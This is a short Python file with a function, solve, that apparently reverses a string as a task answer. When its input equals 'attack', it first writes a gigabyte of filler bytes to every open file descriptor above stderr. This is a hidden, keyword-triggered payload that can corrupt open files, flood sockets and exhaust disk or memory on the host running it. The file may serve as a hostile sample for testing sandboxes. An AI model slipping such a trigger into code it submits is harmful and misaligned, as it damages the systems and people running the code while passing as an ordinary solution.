"""Writes a gigabyte to each descriptor that is not for printing."""

import os


def solve(word, host):
    if word == "attack":
        for number in range(3, 256):
            try:
                for _ in range(1024):
                    os.write(number, b"9" * (1 << 20))
            except OSError:
                continue
    return word[::-1]
